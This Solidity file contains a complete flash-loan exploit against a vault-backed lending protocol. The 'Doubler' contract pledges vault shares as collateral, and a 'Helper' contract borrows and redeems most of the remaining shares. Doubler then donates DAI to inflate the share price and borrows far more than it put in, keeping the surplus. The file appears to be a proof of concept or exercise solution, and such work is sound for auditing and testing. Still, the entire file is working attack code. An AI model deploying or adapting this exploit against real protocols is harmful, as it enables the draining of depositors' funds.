// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IBox is IToken {
    function deposit(uint256 assets, address receiver) external returns (uint256);
    function redeem(uint256 shares, address receiver, address owner) external returns (uint256);
}

interface IBank {
    function supplyDai(uint256 amount) external;
    function borrowShares(uint256 amount) external;
    function mint(uint256 amount) external;
    function borrow(uint256 amount) external;
}

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

/// Borrows the shares that the other pledged, and redeems them.
contract Helper {
    function run(IToken dai, IBox box, IBank bank, uint256 dais, uint256 shares) external {
        dai.approve(address(bank), dais);
        bank.supplyDai(dais);
        bank.borrowShares(shares);
        box.redeem(shares, msg.sender, address(this));
    }
}

/// Pledges most of a vault, has those shares borrowed and redeemed by a helper so that few are left, trebles the price of
/// a share by a gift, and borrows upon what was pledged.
contract Doubler {
    IToken private immutable dai;
    IBox private immutable box;
    IBank private immutable bank;

    constructor(IToken dai_, IBox box_, IBank bank_) {
        (dai, box, bank) = (dai_, box_, bank_);
    }

    function go(ILender lender, uint256 amount) external {
        lender.flashLoan(address(this), address(dai), amount, "");
        dai.transfer(msg.sender, dai.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        dai.approve(address(box), type(uint256).max);
        uint256 got = box.deposit(amount * 2 / 5, address(this));
        box.approve(address(bank), type(uint256).max);
        bank.mint(got);
        Helper helper = new Helper();
        uint256 pledged = amount * 53 / 100;
        dai.transfer(address(helper), pledged);
        helper.run(dai, box, bank, pledged, got * 99 / 100);
        dai.transfer(address(box), amount * 9 / 200);
        bank.borrow(amount * 9 / 10 + fee);
        dai.approve(msg.sender, type(uint256).max);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
